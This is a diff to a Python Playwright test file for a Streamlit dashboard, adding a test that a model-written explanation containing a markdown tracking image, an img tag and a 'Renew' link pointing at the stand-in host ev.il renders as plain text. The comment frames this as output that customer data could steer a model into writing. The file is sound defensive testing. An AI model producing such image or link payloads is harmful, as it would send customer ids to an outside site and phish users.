@@ -1,5 +1,6 @@
 """The real-browser tests: `streamlit run` the dashboard, upload the sample in headless Chromium, see charts; and
-see that text from a file (a web address, an image, an e-mail address in a customer id) shows as text.
+see that text from a file (a web address, an image, an e-mail address in a customer id), and an image or a link a
+model wrote in an explanation, show as text.
 
 It drives Debian's Chromium (`/usr/bin/chromium`, the `chromium` package) through Playwright with an explicit
 executable path, so Playwright's own browser download is never needed. The screenshot it saves to
@@ -8,18 +9,22 @@ executable path, so Playwright's own browser download is never needed. The scree
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
 import time
 import urllib.request
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
 from playwright.sync_api import Browser, Page, expect, sync_playwright
 
 from dashboard import sources
+from tests.agent.model_stubs import OpenAIStub
+from tests.conftest import seed_example
 from tests.dashboard.servers import free_port
 
 REPO = Path(__file__).resolve().parents[2]
@@ -29,12 +34,12 @@ CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--
                  "--disable-extensions", "--no-first-run"]
 
 
-@pytest.fixture(scope="module")
-def dashboard_url() -> Iterator[str]:
-    """The dashboard served by `streamlit run` on a free port, with the in-process agent."""
+@contextmanager
+def _streamlit(env: Mapping[str, str]) -> Iterator[str]:
+    """The dashboard served by `streamlit run` on a free port, with the in-process agent configured by `env`."""
     port = free_port()
     env = {**os.environ, "STREAMLIT_BROWSER_GATHER_USAGE_STATS": "false", "SEGMENT_BACKEND": "inprocess",
-           "SEGMENT_AS_OF": sources.sample().as_of.isoformat()}
+           "SEGMENT_AS_OF": sources.sample().as_of.isoformat(), **env}
     process = subprocess.Popen(
         [sys.executable, "-m", "streamlit", "run", "dashboard/streamlit_app.py", "--server.headless", "true",
          "--server.address", "127.0.0.1", "--server.port", str(port)],
@@ -58,6 +63,13 @@ def dashboard_url() -> Iterator[str]:
     finally:
         process.terminate()
         process.wait(timeout=15)
+
+
+@pytest.fixture(scope="module")
+def dashboard_url() -> Iterator[str]:
+    """The dashboard with the in-process agent and no model (template explanations)."""
+    with _streamlit({}) as url:
+        yield url
 
 
 def _uploaded(browser: Browser, url: str, path: Path, height: int) -> Page:
@@ -160,3 +172,30 @@ def test_markup_in_a_files_names_is_text_in_the_charts(dashboard_url: str, tmp_p
     assert (cohort_anchors, regions_anchors, links) == (0, 0, 0)
     assert {"<b>SKIN</b>CARE", f"{link} (P1)"} <= set(cohort_ticks)
     assert '<a href="https://ev.il/r">Doğu</a>' in regions_ticks
+
+
+@pytest.mark.browser
+def test_a_models_image_and_link_are_text_in_the_explanation() -> None:
+    # What customer data could steer a model into writing: an image that carries the customer's id to another
+    # site the moment the page shows it, and a link.
+    hostile = "Explained: ![pixel](https://ev.il/p.png?d=C-1001) [Renew](https://ev.il/login) <img src=https://ev.il/i>"
+    with OpenAIStub(replies=[hostile]) as model, _streamlit({
+        "SEGMENT_MODEL_PROVIDER": "openai", "SEGMENT_OPENAI_BASE_URL": model.base_url, "SEGMENT_OPENAI_MODEL": "m",
+    }) as url, sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
+        try:
+            page = browser.new_page(viewport={"width": 1440, "height": 2400})
+            page.goto(f"{url}/customer", wait_until="domcontentloaded")
+            page.get_by_role("tab", name="Paste seed JSON").click(timeout=30_000)
+            page.get_by_role("textbox", name="Seed JSON").fill(json.dumps(seed_example("example-request")))
+            page.get_by_role("button", name="Analyse JSON").click()
+            explanation = page.get_by_text("Explained:")
+            expect(explanation).to_be_visible(timeout=60_000)
+            shown = (explanation.text_content() or "").replace("\u2060", "")
+            links = page.locator('a[href*="ev.il"]').count()
+            images = page.locator('img[src*="ev.il"]').count()
+        finally:
+            browser.close()
+
+    assert shown == hostile
+    assert (links, images) == (0, 0)
